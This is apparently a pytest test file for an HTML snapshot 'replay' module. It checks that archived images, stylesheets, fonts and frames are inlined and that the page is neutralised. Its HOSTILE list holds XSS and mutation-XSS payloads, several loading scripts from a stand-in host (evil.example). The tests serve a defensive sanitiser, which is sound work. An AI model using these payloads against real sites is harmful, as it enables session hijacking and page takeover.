"""A replay shows what was sealed, carries it along, and leaves nothing that could act."""

import base64
import re
import time
from collections.abc import Callable
from io import BytesIO

import pytest
from PIL import Image
from selectolax.lexbor import LexborHTMLParser

from config.errors import ItemError
from crawlers.replay import document
from crawlers.replay.document import Replay, make_replay
from evidence.workspace import Workspace
from tests.crawlers.replay.conftest import Seal

_DRAWN = BytesIO()
Image.new("RGB", (4, 4), "red").save(_DRAWN, "png")
PNG = _DRAWN.getvalue()
PICTURE = (200, {"Content-Type": "image/png"}, PNG)
Make = Callable[..., Replay]
EMBEDDED = f"data:image/png;base64,{base64.b64encode(PNG).decode()}"


@pytest.fixture
def replay(workspace: Workspace, seal: Seal) -> Make:
    def make(page: str | bytes, **sealed: object) -> Replay:
        made = make_replay(workspace, seal(page, **sealed))
        assert made is not None
        return made

    return make


def sheet(text: str) -> tuple[int, dict[str, str], bytes]:
    return 200, {"Content-Type": "text/css"}, text.encode()


def unpack(address: str) -> str:
    return base64.b64decode(address.partition(",")[2]).decode()


@pytest.mark.parametrize(
    "markup",
    [
        "<img src=/pic.png>",
        "<img src='//shop.example/pic.png#x'>",
        "<img srcset='/none.png 1x, /pic.png 2x'>",
        "<table background=/pic.png>",
        "<video poster=/pic.png></video>",
        "<input type=image src=/pic.png>",
        "<svg><image xlink:href=/pic.png /></svg>",
        "<p style='background:url( /pic.png )'>",
        "<p style='background:u\\72l(/pic.png)'>",
        "<style>p { background: image-set('/pic.png' 1x) }</style>",
        "<base href=http://shop.example/a/><img src=../pic.png>",
    ],
)
def test_a_sealed_picture_is_shown_wherever_it_is_named(replay: Make, markup: str) -> None:
    assert EMBEDDED in replay(f"<!doctype html><body>{markup}", pic_png=PICTURE).html


def test_a_redirect_is_followed_within_what_was_sealed(replay: Make) -> None:
    moved = (302, {"Location": "/pic.png"}, b"")
    assert EMBEDDED in replay("<p><img src=/old.png>", old_png=moved, pic_png=PICTURE).html


def test_style_sheets_bring_what_they_import_and_their_fonts(replay: Make) -> None:
    made = replay(
        "<link rel=stylesheet media=screen href=/a.css><p>x",
        a_css=sheet("@import '/b.css' print; @font-face { src: url(f.woff2) }"),
        b_css=sheet("p { background: url(pic.png) }"),
        f_woff2=(200, {"Content-Type": "font/woff2"}, b"font"),
        pic_png=PICTURE,
    )
    outer = unpack(LexborHTMLParser(made.html).css_first("link").attributes["href"])
    assert f'url("data:font/woff2;base64,{base64.b64encode(b"font").decode()}")' in outer
    inner = re.findall(r'@import url\("([^"]+)"\) print', outer)[0]
    assert (EMBEDDED in unpack(inner), made.missing) == (True, ())


def test_a_frame_holds_the_page_that_was_sealed_of_it(replay: Make) -> None:
    inner = (200, {"Content-Type": "text/html"}, b"<script>evil()</script><img src=/pic.png>")
    made = replay("<p><iframe src=/in.html></iframe>", in_html=inner, pic_png=PICTURE)
    frame = LexborHTMLParser(made.html).css_first("iframe").attributes
    assert (frame["sandbox"], EMBEDDED in frame["srcdoc"], "evil" in frame["srcdoc"]) == ("", True, False)


def test_what_is_not_sealed_is_named_and_not_asked_for(replay: Make) -> None:
    made = replay(
        "<p><img src=/a.png><link rel=stylesheet href=/b.css><img src=/bad.png>",
        bad_png=(404, {"Content-Type": "text/html"}, b"no"),
    )
    assert made.missing == tuple(f"http://shop.example/{name}" for name in ("a.png", "b.css", "bad.png"))
    assert "shop.example" not in made.html


def test_a_lazy_picture_is_shown_where_no_script_had_put_it_in_place(replay: Make) -> None:
    lazy = "<p><img src=data:image/gif;base64,R0lGOD data-original=/pic.png>"
    assert EMBEDDED in replay(lazy, rendered=False, pic_png=PICTURE).html
    assert EMBEDDED not in replay(lazy, rendered=True, pic_png=PICTURE).html


def test_the_charset_that_the_server_gave_is_kept(replay: Make) -> None:
    page = "<p>电热水壶".encode("gbk")
    assert "电热水壶" in replay(page, rendered=False, content_type="text/html; charset=gbk").html


def test_the_doctype_stays_as_it_decides_how_the_page_is_drawn(replay: Make) -> None:
    old = '<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">'
    assert replay(f"<!-- a -->{old}<p>x").html.startswith(old)
    assert replay("<p>x").html.startswith("<html>")


HOSTILE = [
    "<script>evil()</script>",
    "<svg><script href=http://evil.example/a.js>evil()</script></svg>",
    "<p onclick=evil()>",
    "<body onload=evil()>",
    "<a href='javascript:evil()'>x</a>",
    "<a href='http://evil.example/'>x</a>",
    "<svg><a xlink:href='javascript:evil()'><text>x</text></a></svg>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<base href=http://evil.example/><img src=a.png>",
    "<form action=http://evil.example/><button formaction=http://evil.example/>x",
    "<iframe src='javascript:evil()'></iframe>",
    "<iframe src='data:text/html,<script>evil()</script>'></iframe>",
    "<iframe srcdoc='<script>evil()</script>'></iframe>",
    "<object data=http://evil.example/></object><embed src=http://evil.example/>",
    "<svg><use href=http://evil.example/a.svg#a /></svg>",
    "<svg><animate attributeName=href values=javascript:evil() /></svg>",
    "<svg><style>&lt;/style>&lt;script>evil()&lt;/script></style></svg>",
    "<style>@import 'http://10.0.0.1/a.css'; p { background: url(http://evil.example/) }</style>",
    "<style>p { background: \\75\\72\\6c(http://evil.example/) }</style>",
    "<link rel=preload as=script href=http://evil.example/a.js><link rel=prefetch href=http://evil.example/>",
    "<noscript><p title='</noscript><script>evil()</script>'></noscript>",
    "<xmp><script>evil()</script></xmp>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;script>evil()&lt;/script>'>",
    "<video src=http://evil.example/a.mp4 autoplay><track src=http://evil.example/a.vtt></video>",
    "<a ping=http://evil.example/ href=#x>x</a>",
    "<template><script>evil()</script></template>",
]
_ACTIVE = "script, base, meta, form[action], object, embed, template, applet, animate, [formaction], [ping]"


@pytest.mark.parametrize("rendered", [True, False])
@pytest.mark.parametrize("markup", HOSTILE)
def test_nothing_of_a_hostile_page_is_left_that_acts(replay: Make, markup: str, rendered: bool) -> None:
    made = replay(f"<html><body><p>before</p>{markup}", rendered=rendered).html
    pages = [made, *(one.attributes["srcdoc"] for one in LexborHTMLParser(made).css("iframe"))]
    for tree in map(LexborHTMLParser, pages):
        assert tree.css(_ACTIVE) == []
        for node in tree.css("*"):
            said = {name: value or "" for name, value in node.attributes.items() if name != "title"}
            assert not [name for name in said if name.startswith("on")]
            assert not [value for value in said.values() if "evil" in value and "<" not in value]
    assert "before" in made
    assert "10.0.0.1" not in made


def test_more_bytes_than_a_replay_may_carry_are_named_as_missing(
    replay: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(document, "MOST_BYTES", 5_000)
    made = replay("<p><img src=/pic.png><img src=/b.png>", pic_png=PICTURE, b_png=PICTURE)
    assert (made.html.count(EMBEDDED), made.missing) == (1, ("http://shop.example/b.png",))


def test_a_deep_page_is_shown_and_one_without_end_is_refused(replay: Make) -> None:
    assert "<b>deep</b>" in replay("<div>" * 5_000 + "<b>deep</b>").html
    with pytest.raises(ItemError, match="nests over"):
        replay("<div>" * 100_000 + "<b>deep</b>")


@pytest.mark.parametrize(
    "page",
    [
        "<!-- a -->" * 3_000 + "<p>x",
        "<noscript>" * 9_000 + "<p>x",
        f"<img srcset='{'a' * 20_000}'><p>x",
        f"<style>a{{b:url(x){'(' * 3_000}</style><p>x",
    ],
)
def test_no_page_takes_long(replay: Make, page: str) -> None:
    began = time.process_time()
    assert replay(page).html
    assert time.process_time() - began < 5


def test_sheets_that_import_one_another_end(replay: Make) -> None:
    made = replay("<link rel=stylesheet href=/a.css><p>x", a_css=sheet("@import '/a.css'; p {}"))
    assert len(made.html) < 5_000


def test_frames_and_sheets_that_hold_themselves_many_times_cost_what_a_page_may_cost(
    replay: Make, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(document, "MOST_BYTES", 400_000)
    frames = (200, {"Content-Type": "text/html"}, b"<p><iframe src=/f.html></iframe>" * 90)
    assert len(replay("<p><iframe src=/f.html></iframe>", f_html=frames).html) < 2_000_000
    sheets = "@import '/a.css';" * 90
    assert len(replay("<p><link rel=stylesheet href=/a.css>", a_css=sheet(sheets)).html) < 2_000_000


def test_a_snapshot_without_a_page_has_no_replay(workspace: Workspace, seal: Seal) -> None:
    picture = seal(PNG, rendered=False, content_type="image/png")
    assert make_replay(workspace, picture) is None


def test_what_an_editor_left_in_a_drawing_does_not_end_it(replay: Make) -> None:
    drawn = """<svg viewBox="0 0 9 9"><metadata><rdf:RDF>image/svg+xml</rdf:RDF></metadata>
    <sodipodi:namedview><inkscape:grid/></sodipodi:namedview><path d="M0 0h9"/></svg>
    <o:p>kept</o:p>"""
    shown = replay(f"<p>a</p>{drawn}").html
    assert "rdf" not in shown
    assert "sodipodi" not in shown
    inside = shown[shown.index("<svg") : shown.index("</svg>")]
    assert "<path" in inside
    assert "span" not in inside
    assert "kept" in shown
